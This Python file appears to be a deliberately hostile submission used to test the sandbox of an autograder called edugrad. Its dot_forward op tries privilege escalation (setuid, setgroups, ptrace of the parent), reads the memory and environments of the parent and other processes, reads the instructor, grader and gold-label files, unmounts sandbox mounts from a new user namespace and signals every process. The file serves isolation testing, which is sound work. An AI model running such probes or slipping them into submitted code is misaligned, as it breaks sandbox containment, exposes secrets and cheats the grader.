# HOSTILE: dot.forward tries to gain or use privileges (become another user, regain capabilities, ptrace its parent, read its parent's memory and environment, read other processes' environments, read the instructor's files, the grader and the gold classes, undo the sandbox's mounts from a user namespace of its own, signal every process) and raises an error reporting what worked (and its seccomp and no_new_privs state); the other ops are correct.
import ctypes
import json
import os
import signal
import edugrad


# include: reference


def _try(fn):
    try:
        return fn()
    except BaseException as err:
        return f'refused ({type(err).__name__})'


def _read(path):
    with open(path, 'rb') as f:
        return f'read {len(f.read())} bytes'


def _first_file(folder):
    for base, _, files in os.walk(folder):
        for name in sorted(files):
            return _read(os.path.join(base, name))
    return 'refused (nothing listed)'


def _environ_of_others():
    read = 0
    for name in os.listdir('/proc'):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f'/proc/{name}/environ', 'rb') as f:
                    if f.read(1):
                        read += 1
            except OSError:
                pass
    return read


def _cap_eff():
    with open('/proc/self/status') as f:
        return next((int(line.split()[1], 16) for line in f if line.startswith('CapEff')))


def _unshare_and_unmount(root):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(268435456 | 131072) != 0:
        return f'refused (unshare errno {ctypes.get_errno()})'
    target = os.path.join(root, 'instructor').encode()
    if libc.umount2(target, 2) != 0:
        return f'refused (umount errno {ctypes.get_errno()})'
    return 'unmounted; ' + _first_file(os.path.join(root, 'instructor'))


def _ptrace_parent():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, os.getppid(), None, None) != 0:
        return f'refused (errno {ctypes.get_errno()})'
    libc.ptrace(17, os.getppid(), None, None)
    return 'attached'


def _status(field):
    with open('/proc/self/status') as f:
        return next((line.split()[1] for line in f if line.startswith(field + ':')))


def _probe():
    root = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
    parent = os.getppid()
    report = {'setuid': _try(lambda: (os.setuid(1), 'became uid 1')[1]), 'setgroups': _try(lambda: (os.setgroups([0]), 'joined group 0')[1]), 'cap_eff': _try(_cap_eff), 'ptrace_parent': _try(_ptrace_parent), 'parent_mem': _try(lambda: _read(f'/proc/{parent}/mem')), 'parent_environ': _try(lambda: _read(f'/proc/{parent}/environ')), 'environ_of_others': _try(_environ_of_others), 'instructor': _try(lambda: _first_file(os.path.join(root, 'instructor'))), 'grader': _try(lambda: _first_file(os.path.join(root, 'grader'))), 'classes': _try(lambda: _read(os.path.join(root, 'data', 'toy', 'classes.tsv'))), 'unshare_unmount': _try(lambda: _unshare_and_unmount(root)), 'kill_all': _try(lambda: (os.kill(-1, signal.SIGCONT), 'signalled every process')[1]), 'seccomp': _try(lambda: _status('Seccomp')), 'no_new_privs': _try(lambda: _status('NoNewPrivs'))}
    raise RuntimeError('privilege-probes ' + json.dumps(report) + ' end')


def _attack():
    _probe()


def dot_forward(ctx, a, b):
    _attack()
    return reference.dot.forward(ctx, a, b)
